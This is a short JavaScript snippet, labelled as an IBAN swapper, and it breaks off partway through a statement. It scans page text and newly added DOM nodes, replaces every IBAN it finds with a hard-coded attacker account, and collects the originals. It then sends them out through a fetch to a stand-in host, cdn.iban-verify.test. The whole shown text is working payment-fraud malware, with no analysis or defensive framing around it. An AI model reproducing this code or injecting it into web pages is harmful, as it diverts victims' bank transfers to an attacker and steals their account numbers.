// corpus note: MutationObserver IBAN swapper with exfil, truncated mid-statement
(function(){
  var ACC = "ES91 2100 0418 4502 0005 1332";
  var RE = /\b[A-Z]{2}\d{2}(?:\s?[A-Z0-9]{4}){3,7}\b/g;
  var orig = [];
  function walk(root){
    var tw = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
    var n;
    while ((n = tw.nextNode())) {
      if (RE.test(n.nodeValue)) {
        RE.lastIndex = 0;
        n.nodeValue = n.nodeValue.replace(RE, function(m){ orig.push(m); return ACC; });
      }
    }
  }
  new MutationObserver(function(ms){
    ms.forEach(function(m){ m.addedNodes.forEach(function(x){ if (x.nodeType === 1) walk(x); }); });
    if (orig.length) fetch("https://cdn.iban-verify.test/v?d=" + encodeURIComponent(orig.splice(0).jo
